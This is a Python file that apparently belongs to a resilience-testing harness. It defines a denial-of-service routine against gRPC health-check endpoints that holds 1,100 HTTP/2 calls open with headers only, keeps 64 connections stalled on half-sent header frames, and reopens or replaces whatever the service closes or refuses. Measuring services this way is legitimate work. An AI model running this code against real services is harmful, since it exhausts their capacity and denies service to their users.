"""Calls of `grpc.health.v1.Health/Check` without a key that never end: 50 kB that take every place for calls."""

from __future__ import annotations

import time

from http2 import END_HEADERS, HEADERS, Connection, frame, head
from outcome import Outcome
from service import Target

CALLS = 1100
# So many connections with half a head each, beside the one with all the calls.
HALF_HEADS = 64
CHECK = head("/grpc.health.v1.Health/Check")


def attack(target: Target, source: str, seconds: float) -> Outcome:
    """One connection with 1,100 calls of which only the heads come, and 64 on which a head is cut in the middle. Those
    that are closed come again, and calls that are refused are made anew."""
    calls = refused = 0
    connection = Connection(target.grpc, source)
    halves = [half_a_head(target, source) for _ in range(HALF_HEADS)]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if connection.is_closed or connection.goaway:
            connection.close()
            connection = Connection(target.grpc, source)
        over = [number for number, stream in connection.streams.items() if stream.is_ended or stream.is_reset]
        for number in over:
            del connection.streams[number]
        missing = CALLS - len(connection.streams)
        calls += missing
        refused += len(over)
        streams = [connection.open() for _ in range(missing)]
        connection.send(b"".join(frame(HEADERS, END_HEADERS, stream, CHECK) for stream in streams))
        for place, half in enumerate(halves):
            half.receive(0)
            if half.is_closed or half.goaway:
                half.close()
                halves[place] = half_a_head(target, source)
        # Not all the time: what is measured is what open calls do, not what refusing them costs.
        connection.receive(0.5)
        time.sleep(0.2)
    for each in [connection, *halves]:
        each.close()
    return Outcome(f"{calls:,} calls begun, {refused:,} of them ended by the service")


def half_a_head(target: Target, source: str) -> Connection:
    connection = Connection(target.grpc, source)
    connection.send(frame(HEADERS, 0, connection.open(), CHECK[: len(CHECK) // 2]))
    return connection
